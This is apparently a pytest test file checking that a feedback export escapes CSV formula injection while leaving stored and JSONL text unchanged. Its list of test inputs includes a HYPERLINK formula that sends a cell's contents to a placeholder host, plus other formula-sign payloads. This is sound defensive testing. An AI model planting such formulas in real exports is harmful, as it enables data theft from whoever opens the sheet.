"""The feedback export is safe to open in a spreadsheet (CSV injection), and keeps the stored text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from ui.feedback import FeedbackStore

pytestmark = pytest.mark.unit

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
    "+31 20 123",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_starting_with_a_formula_sign_is_text_in_the_csv(tmp_path: Path, text: str) -> None:
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    row = store.add(text, "antwoord", "nl", [], "not_helpful")
    store.comment(row, "x")
    store.comment(row, text.strip() or "x")
    out = io.StringIO()
    store.export("csv", out)
    (exported,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert exported["question"] == "'" + text
    assert exported["comment"] == "'" + text.strip()
    assert exported["answer"] == "antwoord"
    assert store.rows()[0].question == text  # stored as typed
    jsonl = io.StringIO()
    store.export("jsonl", jsonl)
    assert json.loads(jsonl.getvalue())["question"] == text  # JSON is data, not a sheet: unchanged


def test_ordinary_text_is_exported_as_it_is(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    store.add("Wat is 2-3 % van 'x'?", "a = b", "nl", ["c:1"], "helpful")
    out = io.StringIO()
    store.export("csv", out)
    (exported,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert (exported["question"], exported["answer"], exported["chunk_ids"]) == (
        "Wat is 2-3 % van 'x'?",
        "a = b",
        "c:1",
    )
